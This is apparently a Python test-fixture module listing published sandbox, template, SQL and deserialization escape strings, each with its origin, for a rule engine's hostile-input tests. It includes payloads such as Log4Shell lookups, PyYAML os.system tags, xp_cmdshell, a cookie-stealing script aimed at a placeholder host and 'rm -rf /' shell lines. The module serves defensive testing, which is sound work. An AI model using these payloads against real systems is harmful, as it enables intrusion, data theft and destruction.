"""Texts from published escapes of sandboxes, parsers and template engines, and what each one was.

``TEXTS`` go into every field of a rule, as they are and as the constant of an expression; ``YAML`` and ``JSON`` are
whole documents. See ``tests.harness.faults.hostile_cases`` for what is done with them.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Hostile:
    """``provenance``: what was attacked by it, and how."""

    name: str
    provenance: str
    text: str


TEXTS = [
    Hostile(
        "subclasses", "Python eval sandboxes: from a tuple to every class", "().__class__.__bases__[0].__subclasses__()"
    ),
    Hostile("import", "Python eval: the import function", "__import__('os').system('touch /tmp/owned')"),
    Hostile(
        "builtins",
        "Python eval without builtins: found again through a generator's frame",
        "(lambda: 0).__globals__['__builtins__']",
    ),
    Hostile(
        "format globals", "Python str.format of user text (Ronacher, 2016)", "{0.__init__.__globals__[SECRET_KEY]}"
    ),
    Hostile("format class", "Python str.format, by name", "{user_id.__class__.__mro__[1].__subclasses__}"),
    Hostile("format width", "Python str.format: a field as wide as memory", "{user_id:>9999999999}"),
    Hostile("percent", "Python and C: format strings with %", "%(user_id)s %s%s%s%n%n %9999999999d"),
    Hostile("f-string", "Python eval of an f-string", "f'{__import__(\"os\").getcwd()}'"),
    Hostile("pickle", "Python pickle: os.system by reduce", "cos\nsystem\n(S'id'\ntR."),
    Hostile(
        "jinja",
        "Jinja2 template injection: the CVE-2019-10906 style escape",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    Hostile("jinja format", "Jinja2's sandbox: format of a str (CVE-2016-10745)", "{{ '{0.__class__}'.format(42) }}"),
    Hostile(
        "jinja block", "Jinja2: statements", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}"
    ),
    Hostile("seven times seven", "the probe for template injection", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}*{7*7}"),
    Hostile("log4shell", "Log4j look-ups (CVE-2021-44228)", "${jndi:ldap://127.0.0.1:1389/a}"),
    Hostile("log4shell hidden", "Log4j look-ups, past a filter", "${${lower:j}${::-n}di:dns://x.invalid/${env:PATH}}"),
    Hostile(
        "ognl",
        "Struts OGNL (CVE-2017-5638)",
        "%{(#_='multipart/form-data').(@java.lang.Runtime@getRuntime().exec('id'))}",
    ),
    Hostile("spel", "Spring's expression language (CVE-2022-22963)", "T(java.lang.Runtime).getRuntime().exec('id')"),
    Hostile("mvel", "rule engines on MVEL: code in a condition", "Runtime.getRuntime().exec('id') != null"),
    Hostile(
        "groovy", "Elasticsearch's Groovy sandbox (CVE-2015-1427)", "java.lang.Math.class.forName('java.lang.Runtime')"
    ),
    Hostile("reflect", "Spark SQL's reflect()", "reflect('java.lang.Runtime', 'getRuntime') is not null"),
    Hostile("java_method", "Spark SQL's java_method()", "java_method('java.lang.System', 'exit', 1) = 'x'"),
    Hostile("spark file", "Spark SQL: a file as a table", "user_id in (select value from text.`/etc/passwd`)"),
    Hostile(
        "spark transform",
        "Spark SQL: rows through a shell",
        "user_id in (select transform(a) using '/bin/sh -c id' from t)",
    ),
    Hostile("duckdb file", "DuckDB's readers", "user_id in (select * from read_csv('/etc/passwd'))"),
    Hostile(
        "duckdb attach",
        "DuckDB: another database, an extension",
        "true; attach '/tmp/x.db'; install httpfs; load httpfs",
    ),
    Hostile("copy", "PostgreSQL: a program's output as a table", "true; copy t from program 'id'"),
    Hostile("pg_read_file", "PostgreSQL's file functions", "pg_read_file('/etc/passwd') like 'root%'"),
    Hostile("outfile", "MySQL: a file from a query", "1=1 into outfile '/tmp/x.php'"),
    Hostile(
        "load_file",
        "MySQL and SQLite: files and libraries",
        "load_file('/etc/passwd') = '' or load_extension('x') = ''",
    ),
    Hostile("xp_cmdshell", "SQL Server: a shell", "1=1; exec xp_cmdshell 'dir' --"),
    Hostile(
        "union", "SQL injection: another table's rows", "' or '1'='1' union select * from information_schema.tables --"
    ),
    Hostile("comment", "SQL injection: the rest of a condition cut off", "amount > 1 /* and */ -- and not true"),
    Hostile("hint", "Spark SQL: hints in comments", "/*+ broadcast(t) */ amount > 1"),
    Hostile("backticks", "names in backticks that are paths", "`/etc/passwd` = 1 and `../../x` = 2 and `a``b` = 3"),
    Hostile("sleep", "blind SQL injection by time", "pg_sleep(100) is null or benchmark(1e9, md5('a')) = 0"),
    Hostile("subquery", "a subquery for each event", "amount > (select max(amount) from shop a, shop b, shop c)"),
    Hostile(
        "recursion",
        "a query without end",
        "exists (with recursive r as (select 1 union all select 1 from r) select 1 from r)",
    ),
    Hostile(
        "redos",
        "regular expressions of exponential time",
        "regexp_like(user_id, '^(a+)+$') and regexp_like(user_id, '(.*)*(.*)*(.*)*x')",
    ),
    Hostile(
        "redos counted",
        "regular expressions of enormous automata",
        "regexp_like(user_id, '((a{1,999}){1,999}){1,999}')",
    ),
    Hostile("pcre callout", "Perl: code in a regular expression", "regexp_like(user_id, '(?{ system(\"id\") })')"),
    Hostile("like bomb", "like patterns of exponential time", "user_id like '" + "%a" * 120 + "%'"),
    Hostile("deep brackets", "parsers that recurse: CVE-style stack overflow", "(" * 5_000 + "1" + ")" * 5_000),
    Hostile("deep not", "parsers that recurse, without brackets", "not " * 2_000 + "true"),
    Hostile("exponent", "numbers that unfold when they are read (1e999999999 as an integer)", "amount > 1e999999999"),
    Hostile("tower", "constants folded without a limit", "10**10**10 > power(power(9e9, 9e9), 9e9)"),
    Hostile("digits", "quadratic conversion of digits (CVE-2020-10735)", "amount > " + "9" * 100_000),
    Hostile(
        "overflow", "integer overflow", "quantity * 9223372036854775807 * 9223372036854775807 > 18446744073709551616"
    ),
    Hostile("long name", "names without a limit", "a" * 200_000),
    Hostile(
        "growth",
        "text that doubles",
        "replace(replace(replace(user_id, 'a', 'aaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaa') = ''",
    ),
    Hostile(
        "override",
        "Trojan Source (CVE-2021-42574): text that shows otherwise than it reads",
        "amount > 1\u202e and\u2066 false\u2069",
    ),
    Hostile("zero width", "words with invisible characters", "am\u200bount > 1 a\u200dnd tr\ufeffue"),
    Hostile("homoglyph", "names in another script", "\u0430m\u043eunt > 1 \u0430nd 1 = 1"),
    Hostile("full width", "keywords that normalise to others", "\uff41mount \uff1e 1 \uff2f\uff32 1=1 \uff07"),
    Hostile("null byte", "texts cut off by C at a NUL", "user_id = 'a\x00' or true"),
    Hostile("terminal", "escape sequences for readers of the list of rules", "\x1b]0;owned\x07\x1b[2J\x1b[31m"),
    Hostile("line feed", "a second record in a log of lines", "ok\n2026-01-01 ERROR the rule set was emptied"),
    Hostile("overlong", "UTF-8 in too many bytes, as Latin-1", "\u00c0\u00af..\u00c0\u00af\u00e0\u0080\u00af"),
    Hostile("traversal", "a path as an id", "../../../../etc/passwd"),
    Hostile("traversal coded", "a path as an id, past a filter", "..%2f..%2f%2e%2e/etc/passwd%00.yaml"),
    Hostile("prototype", "JavaScript's prototype pollution", "__proto__"),
    Hostile("constructor", "the same through the constructor", "constructor.prototype.admin"),
    Hostile("dunder", "attributes of the product's own values", "__class__"),
    Hostile("formula", "spreadsheets that run what they open", "=cmd|'/c calc'!A1"),
    Hostile("script", "a page that shows the message", "<script>fetch('//x.invalid/'+document.cookie)</script>"),
    Hostile("xxe", "XML with an external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
    Hostile("shell", "a shell line", "$(touch /tmp/owned); `id` | nc 127.0.0.1 1 && rm -rf /"),
]

_HEAD = "id: bomb\nversion: 1\nowner: o\non: shop\nthen: {severity: low, message: m}\n"
_LAUGHS = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
)
YAML = [
    Hostile(
        "python apply",
        "PyYAML's python tags (CVE-2017-18342)",
        _HEAD + "where: !!python/object/apply:os.system ['id']\n",
    ),
    Hostile(
        "python new",
        "PyYAML's FullLoader (CVE-2020-14343)",
        _HEAD + "where: !!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]\n",
    ),
    Hostile("python name", "PyYAML: a function by name", _HEAD + "where: !!python/name:os.system\n"),
    Hostile("python module", "PyYAML: a module", "!!python/module:subprocess\n"),
    Hostile(
        "java tag",
        "SnakeYAML: a class loader (CVE-2022-1471)",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1/']]]]\n",
    ),
    Hostile(
        "local tag",
        "a tag of one's own, and a directive for it",
        "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [id]\n",
    ),
    Hostile("billion laughs", "aliases of aliases (CVE-2003-1564 in YAML, Kubernetes' CVE-2019-11253)", _LAUGHS),
    Hostile("self alias", "an anchor inside of itself", "a: &a [*a]\n"),
    Hostile("merge", "merge keys of aliases", "x: &x {where: 'true'}\n<<: [*x, *x]\n" + _HEAD),
    Hostile("merge plain", "a merge key of a plain mapping", _HEAD + "<<: {where: 'true'}\nwhere: 'false'\n"),
    Hostile(
        "same key",
        "an entry written twice, one for the reviewer and one for the machine",
        _HEAD + "where: 'false'\nwhere: 'true'\n",
    ),
    Hostile("deep flow", "parsers that recurse", "a: " + "[" * 50_000),
    Hostile("deep mapping", "parsers that recurse", "{a: " * 50_000),
    Hostile("deep block", "parsers that recurse, by indentation", "".join(" " * i + "- \n" for i in range(600))),
    Hostile("complex key", "a mapping as a key", "? {a: 1}\n: 2\n? [a]\n: 3\n"),
    Hostile("many keys", "keys whose hashes collide, or only many", "".join(f"k{i}: {i}\n" for i in range(60_000))),
    Hostile("many documents", "one text of many documents", "---\n" * 100_000),
    Hostile("many rules", "one text of many rules", ("---\n" + _HEAD) * 5_000),
    Hostile("byte order marks", "byte order marks, first and within", "\ufeff" + _HEAD + "\ufeffwhere: 'true'\n"),
    Hostile("byte order mark", "one byte order mark, as editors write it", "\ufeff" + _HEAD + "where: amount > 1\n"),
    Hostile("UTF-16", "another encoding, as text", _HEAD.encode("utf-16").decode("latin-1")),
    Hostile(
        "norway",
        "YAML 1.1's surprises: booleans, octal, sexagesimal",
        _HEAD + "where: no\nversion: 0o17\ntests: 190:20:30\n",
    ),
    Hostile("huge numbers", "numbers that unfold", _HEAD + "where: 1e999999999\nscore: " + "9" * 100_000 + "\n"),
    Hostile(
        "not a number",
        "NaN and infinities as scores",
        _HEAD.replace("message: m", "message: m, score: .nan") + "where: .inf\n",
    ),
    Hostile("binary", "bytes where text is meant", _HEAD + "where: !!binary aWQ=\n"),
    Hostile(
        "timestamp",
        "a date at the end of time",
        _HEAD + "where: a > 1\neffective: {from: '0001-01-01T00:00:00+23:59', to: '9999-12-31T23:59:59-23:59'}\n",
    ),
    Hostile("long scalar", "one scalar as long as the file may be", _HEAD + "where: '" + "x" * 900_000 + "'\n"),
    Hostile("long lines", "libyaml: a simple key as long as the file", "x" * 900_000 + ": 1\n"),
    Hostile("tabs and controls", "indentation by what is not a blank", "a:\n\t- b\x0b\x0c\x85\u2028c\n"),
    Hostile(
        "escapes",
        "escaped surrogates and controls in a quoted scalar",
        _HEAD + 'description: "\\ud83d\\ude00 \\0 \\x1b \\U0010ffff \\ud800"\nwhere: "true"\n',
    ),
]

_RULE = '"id": "bomb", "version": 1, "owner": "o", "on": "shop", "where": "amount > 1", "then": {"severity": "low", "message": "m"}'
JSON = [
    Hostile(
        "same key in JSON",
        "an entry written twice: parsers differ in which one counts",
        "{" + _RULE + ', "where": "1 = 1"}',
    ),
    Hostile(
        "same key within",
        "the same further down",
        "{" + _RULE.replace('"message": "m"', '"message": "m", "message": "other"') + "}",
    ),
    Hostile("deep JSON", "parsers that recurse", "[" * 30_000),
    Hostile("deep object", "parsers that recurse", '{"a":' * 12_000),
    Hostile("prototype in JSON", "JavaScript's prototype pollution", "{" + _RULE + ', "__proto__": {"admin": true}}'),
    Hostile(
        "python in JSON",
        "attributes of the model itself",
        "{" + _RULE + ', "__class__": "x", "model_config": {}, "__dict__": {}}',
    ),
    Hostile(
        "jsonpickle",
        "jsonpickle: a function to be called",
        '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}',
    ),
    Hostile(
        "jackson",
        "Jackson: a class by name (CVE-2017-7525)",
        '{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://127.0.0.1/x"}',
    ),
    Hostile("huge version", "numbers that unfold", "{" + _RULE.replace('"version": 1', '"version": 1e400') + "}"),
    Hostile(
        "digits in JSON",
        "quadratic conversion of digits",
        "{" + _RULE.replace('"version": 1', '"version": ' + "9" * 60_000) + "}",
    ),
    Hostile("NaN in JSON", "what is not JSON", "{" + _RULE.replace('"version": 1', '"version": NaN') + "}"),
    Hostile("negative zero", "numbers with two forms", "{" + _RULE.replace('"version": 1', '"version": -0') + "}"),
    Hostile("float version", "a whole number as a float", "{" + _RULE.replace('"version": 1', '"version": 1.0') + "}"),
    Hostile("mark in JSON", "a byte order mark", "\ufeff{" + _RULE + "}"),
    Hostile("comments in JSON", "what is not JSON", "{/* */" + _RULE + ",}"),
    Hostile(
        "controls in JSON",
        "escape sequences for readers of the list of rules",
        "{" + _RULE.replace('"message": "m"', '"message": "\\u001b[2J\\u0000"') + "}",
    ),
    Hostile(
        "override in JSON",
        "Trojan Source in the owner",
        "{" + _RULE.replace('"owner": "o"', '"owner": "o\\u202e"') + "}",
    ),
    Hostile(
        "surrogate in JSON", "half a character", "{" + _RULE.replace('"message": "m"', '"message": "\\ud800"') + "}"
    ),
    Hostile("many columns", "a list without end", "{" + _RULE + ', "group_by": [' + ",".join(['"a"'] * 10_000) + "]}"),
    Hostile("two values", "more behind the document", "{" + _RULE + "}{}"),
    Hostile(
        "time in JSON",
        "a date at the end of time",
        "{" + _RULE + ', "effective": {"from": "0001-01-01T00:00:00+23:59"}}',
    ),
]
